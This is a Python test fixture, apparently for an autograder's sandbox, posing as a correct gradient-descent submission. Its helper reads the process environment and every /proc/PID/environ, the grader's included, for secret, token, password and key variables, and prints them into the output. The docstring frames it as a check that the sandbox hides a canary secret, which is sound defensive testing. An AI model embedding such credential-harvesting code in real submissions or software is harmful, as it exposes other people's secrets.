"""Hostile on the side, correct values: prints every secret-looking variable it can find, in its
own environment and in every visible process's ``/proc/PID/environ`` (the grader's first), so that
it reaches the report's output column. The test gives the grader a random
``DESCENTLAB_CANARY_SECRET``.

Verdict: pass (the values are right; printing is allowed). The secret must not appear in the
report: the sandbox clears the environment and hides the grader. Old grader: the worker inherits
the grader's environment, so the secret is printed into every public case's output.
"""

import os

import numpy as np

_WORDS = ("SECRET", "TOKEN", "PASSWORD", "KEY")


def _secrets():
    found = [f"{k}={v}" for k, v in os.environ.items() if any(w in k for w in _WORDS)]
    pids = [str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]
    for pid in dict.fromkeys(pids):
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                items = handle.read().split(b"\0")
        except OSError:
            continue
        for item in items:
            name = item.split(b"=", 1)[0].decode(errors="replace")
            if any(w in name for w in _WORDS):
                found.append(item.decode(errors="replace"))
    return sorted(set(found))


def gradient_step_onefeature(x, y, weight, lrate):
    print("environment secrets:", _secrets())
    residual = y - x * weight
    return weight - lrate * np.mean(-2 * x * residual), np.mean(residual**2)


def gradient_step(X, y, weight, lrate):
    print("environment secrets:", _secrets())
    residual = y - X @ weight
    return weight - lrate * (-2 / len(X)) * (X.T @ residual), np.mean(residual**2)
